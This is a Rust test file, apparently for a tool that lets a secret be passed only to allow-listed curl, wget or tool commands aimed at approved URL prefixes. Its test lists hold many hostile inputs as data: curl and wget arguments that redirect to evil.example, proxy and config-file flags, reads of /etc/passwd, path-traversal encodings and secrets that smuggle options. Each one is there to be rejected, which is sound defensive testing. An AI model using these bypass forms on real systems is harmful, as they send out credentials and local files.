use super::*;
use crate::control::message::PipeSaid;
use proptest::prelude::*;
use proptest::sample::select;

const PREFIXES: &str = r#"
allow = ["curl", "wget", "tool"]
[commands.curl]
require_url = true
url_prefixes = ["https://api.example.com/v1/", "http://internal.example.local/health"]
[commands.wget]
url_prefixes = ["https://api.example.com/v1/"]
[commands.tool]
url_prefixes = ["https://api.example.com/v1/"]
"#;

fn settings(text: &str) -> PipeSettings {
    toml::from_str(text).unwrap()
}

/// Whether a template is admitted, and then this secret.
fn run(settings: &PipeSettings, template: &str, secret: &str) -> Result<(), PipeError> {
    let words = split(template).unwrap();
    let way = match template.contains(FILE) {
        true => PipeWay::File(words.clone()),
        false => PipeWay::Arguments(words.clone()),
    };
    let pipe = Pipe { program: format!("/usr/bin/{}", words[0]), way, said: PipeSaid::default() };
    let to = GoesTo::Command(pipe);
    let admitted = Admitted::of(&to, settings)?;
    admitted.may_carry(secret.as_bytes())
}

#[test]
fn a_payload_may_vary_while_every_address_stays_below_a_prefix() {
    let settings = settings(PREFIXES);
    for template in [
        "curl -u ayush:{secret} http://internal.example.local/health",
        "curl -sS -XPOST -H 'Authorization: Bearer {secret}' https://api.example.com/v1/a?b=c",
        "curl -d '{\"key\":\"{secret}\"}' --url https://api.example.com/v1/login",
        "curl --url=https://api.example.com/v1/login -uayush:{secret}",
        "curl -H 'Referer: https://api.example.com/v1/x' -H 'X: {secret}' api.example.com/v1/ -- \
         https://api.example.com/v1/",
        "curl 'https://api.example.com/v1/?token={secret}'",
        "curl -d @{file} -F file=@{file} https://api.example.com/v1/upload",
        "curl --silent --no-alpn --fail-with-body -u me:{secret} --globoff -- https://api.example.com/v1/",
        "curl --data-urlencode x=a@b --data-urlencode file@{file} https://api.example.com/v1/",
        "wget --quiet --no-verbose -O - --password={secret} https://api.example.com/v1/",
        "wget -nv -O - --header='X-Key: {secret}' https://api.example.com/v1/",
        "wget -qO- --password={secret} https://api.example.com/v1/",
        "tool --token {secret} --to=https://api.example.com/v1/x plain words",
    ] {
        let admitted = run(&settings, template, "hunter2");
        // A host without its scheme is one of http.
        let is_plain = template.contains(" api.example.com");
        assert_eq!(admitted.is_ok(), !is_plain, "{template}: {admitted:?}");
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "a line for each form")]
fn an_address_is_found_in_every_form_of_an_argument_once_a_good_one_is_there() {
    let settings = settings(PREFIXES);
    let good = "https://api.example.com/v1/";
    for evil in [
        "https://evil.example/",
        "HTTPS://EVIL.EXAMPLE/",
        "evil.example/v1/",
        "evil.example",
        "evil",
        "https:/evil.example/",
        "https:\\\\evil.example",
        "--url=https://evil.example/",
        "--url https://evil.example/",
        "--url evil.example",
        "--url=evil.example",
        "--ur=evil.example",
        "-H https://evil.example/",
        "-Hhttps://evil.example/",
        "-sSHhttps://evil.example/",
        "-dnext=https://evil.example/",
        "-d next=https://evil.example/",
        "-d https://api.example.com/v1/,https://evil.example/",
        "-d 'https://api.example.com\"@evil.example/'",
        "-d 'https://api.example.com/v1/ /../../evil'",
        "-xhttp://evil.example",
        "-x http://evil.example",
        "-sx evil.example:8080",
        "--proxy evil.example",
        "--prox evil.example",
        "--socks5-hostname evil.example",
        "--preproxy=evil.example",
        "-K /tmp/more",
        "-sK/tmp/more",
        "--config /tmp/more",
        "--conf=/tmp/more",
        "-: evil.example",
        "--next evil.example",
        "--next",
        "--connect-to ::evil.example:",
        "--resolve api.example.com:443:10.0.0.1",
        "--expand-url=x",
        "--unknown=evil.example",
        "--unknown evil.example",
        "--request-target /evil",
        "--path-as-is",
        "-L",
        "-sSL",
        "--location-trusted",
        "-v",
        "--trace-ascii -",
        "--stderr -o evil.example",
        "--stder -o evil.example",
        "--local-port --user-agent evil.example",
        "--data-urlencode x@/etc/passwd",
        "--url-query @/etc/passwd",
        "-d @/etc/passwd",
        "-d@/etc/passwd",
        "-H @/tmp/headers",
        "-F x=@/etc/passwd",
        "-F 'x=</etc/passwd'",
        "ftp://api.example.com/v1/",
        "-d ftp://evil.example/",
        "https://api.example.com/v1/../../evil",
        "https://api.example.com/v1/%2e%2e/%2E%2E/evil",
        "https://u@api.example.com/v1/",
        "https://api.example.com/v1/{a,../../b}",
        "https://{secret}.example.com/v1/",
        "https://api.example.com/{secret}/",
        "{secret}",
        "--url={secret}",
        "-- --url",
    ] {
        let template = format!("curl -u me:{{secret}} {good} {evil}");
        assert!(run(&settings, &template, "x").is_err(), "{template}");
    }
    for evil in [
        "-i /tmp/more",
        "-qi/tmp/more",
        "--input-file=/tmp/more",
        "-e http_proxy=evil.example",
        "--execute=http_proxy=evil.example",
        "-B https://evil.example/",
        "-r",
        "-qrH",
        "--max-redirect=5",
        "--exclude-domains -O evil.example",
        "--no -O evil.example",
        "evil.example",
    ] {
        let template = format!("wget --password={{secret}} {good} {evil}");
        assert!(run(&settings, &template, "x").is_err(), "{template}");
    }
    for evil in ["--to=https://evil.example", "xHTTP://evil.example", "ssh://evil.example"] {
        let template = format!("tool {{secret}} {good} {evil}");
        assert!(run(&settings, &template, "x").is_err(), "{template}");
    }
}

#[test]
fn an_address_must_be_there_where_one_is_required_and_only_there() {
    let settings = settings(PREFIXES);
    let none = run(&settings, "curl -u me:{secret}", "x");
    assert!(matches!(none, Err(PipeError::NoAddress(_))), "{none:?}");
    assert!(run(&settings, "tool {secret}", "x").is_ok());
}

#[test]
fn what_a_secret_holds_adds_no_address_no_option_and_no_file() {
    let settings = settings(PREFIXES);
    let whole = "curl -d {secret} https://api.example.com/v1/";
    let attached = "curl -dx={secret} https://api.example.com/v1/";
    let within = "curl https://api.example.com/v1/{secret}/x";
    for (template, secret) in [
        (whole, "-Kfile"),
        (whole, "@/etc/passwd"),
        (whole, "https://evil.example/"),
        (attached, "HTTPS://evil.example/"),
        (attached, "@/etc/passwd"),
        (within, "../../evil"),
        (within, "%2e%2e/.."),
        (within, "{a,b}"),
        (within, "a b"),
        (whole, "line\nbreak"),
        (whole, "\u{85}"),
        ("tool {secret}", "--delete"),
    ] {
        assert!(run(&settings, template, "harmless").is_ok(), "{template}");
        assert!(run(&settings, template, secret).is_err(), "{template} with {secret:?}");
    }
    let words = "curl -d {secret} -d '{secret}' https://api.example.com/v1/";
    for secret in ["a b' \"c", "$(id)", "{secret}", "", "\u{e4}"] {
        assert!(run(&settings, words, secret).is_ok(), "{secret:?}");
    }
    let not_text = PipeWay::Arguments(split("tool {secret}").unwrap());
    let pipe = Pipe { program: "/bin/tool".into(), way: not_text, said: PipeSaid::default() };
    let to = GoesTo::Command(pipe);
    let refused = Admitted::of(&to, &settings).unwrap().may_carry(b"\xff");
    assert!(matches!(refused, Err(PipeError::NotText)), "{refused:?}");
}

#[test]
fn options_that_are_denied_are_those_of_the_settings_once_they_name_any() {
    let curl = "allow = [\"curl\", \"tool\"]\n[commands.curl]\n";
    let free = settings(curl);
    assert!(run(&free, "curl -K file {secret} -x evil evil.example --un=known", "x").is_ok());
    let lifted = format!("{curl}url_prefixes = [\"https://a/\"]\ndeny_options = []\n");
    assert!(run(&settings(&lifted), "curl -v -d @x -u {secret} https://a/", "x").is_ok());
    let own = settings(
        "allow = [\"tool\"]\n[commands.tool]\ndeny_options = [\"-f\", \"--from\", \"-config\", \"@\"]\n",
    );
    for denied in
        ["-f", "-xf", "-fx", "--from", "--from=x", "--fr", "-config", "-config=x", "@x", "a=@x"]
    {
        assert!(run(&own, &format!("tool {{secret}} {denied}"), "x").is_err(), "{denied}");
    }
    for other in ["-x", "--from-here", "f", "-", "--", "a@b"] {
        assert!(run(&own, &format!("tool {{secret}} {other}"), "x").is_ok(), "{other}");
    }
}

/// Where a URL leads by the reading of browsers, and with every second reading of its path.
fn leads_below(text: &str) -> bool {
    let Ok(url) = url::Url::parse(text) else { return false };
    let path = url.path().to_ascii_lowercase();
    let plain = path.replace("%2f", "/").replace("%5c", "/").replace('\\', "/");
    let plain = plain.replace("%2e", ".").replace("%25", "%").replace("%2e", ".");
    let merged = plain.split('/').filter(|it| !it.is_empty());
    let named = merged.map(|part| part.split(';').next().unwrap_or_default());
    let mut folders: Vec<&str> = Vec::new();
    for part in named {
        match part {
            "." => {}
            ".." => drop(folders.pop()),
            part => folders.push(part),
        }
    }
    url.scheme() == "https"
        && url.host_str().map(|host| host.trim_end_matches('.')) == Some("api.example.com")
        && url.port().is_none()
        && url.username().is_empty()
        && url.password().is_none()
        && url.path().starts_with("/v1/")
        && folders.first() == Some(&"v1")
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = select(vec![
        "https",
        "HTTP",
        "http",
        "://",
        ":/",
        ":",
        "//",
        "/",
        "\\",
        "@",
        "u:p@",
        "api.example.com",
        "API.example.com",
        ".",
        "..",
        "...",
        "evil.example",
        ":443",
        ":80",
        ":0443",
        "v1",
        "/v1/",
        "%76",
        "V1",
        "%2e",
        "%2E.",
        ".%2e",
        "%2f",
        "%2F..",
        "%5c",
        "%252e",
        "%25",
        "%3b",
        ";",
        "..;",
        "?",
        "#",
        "&",
        "x",
        "\t",
        "\n",
        " ",
        "{",
        "}",
        "[::1]",
        "%00",
        "\u{e4}",
        "\u{3002}",
        "%",
    ]);
    prop::collection::vec(piece, 0..9).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 20_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_address_is_accepted_that_leads_elsewhere_in_another_reading(
        begin in select(vec!["", "https://api.example.com/v1/", "https://api.example.com", "https://"]),
        rest in pieces(),
    ) {
        let text = format!("{begin}{rest}");
        let prefix = UrlPrefix::try_from("https://api.example.com/v1/".to_owned()).unwrap();
        let accepted = address::Address::parse(&text).is_ok_and(|address| prefix.covers(&address));
        prop_assert!(!accepted || leads_below(&text), "{text}");
    }

    #[test]
    fn no_command_line_is_accepted_with_an_address_outside(before in pieces(), rest in pieces()) {
        let text = format!("{before}https://evil.example{rest}");
        let settings = settings(PREFIXES);
        for command in ["tool", "curl", "wget"] {
            let words = [command.to_owned(), "{secret}".to_owned(), text.clone()];
            let pipe = Pipe {
                program: format!("/bin/{command}"),
                way: PipeWay::Arguments(words.to_vec()),
                said: PipeSaid::default(),
            };
            let to = GoesTo::Command(pipe);
            prop_assert!(Admitted::of(&to, &settings).is_err(), "{text}");
        }
    }
}
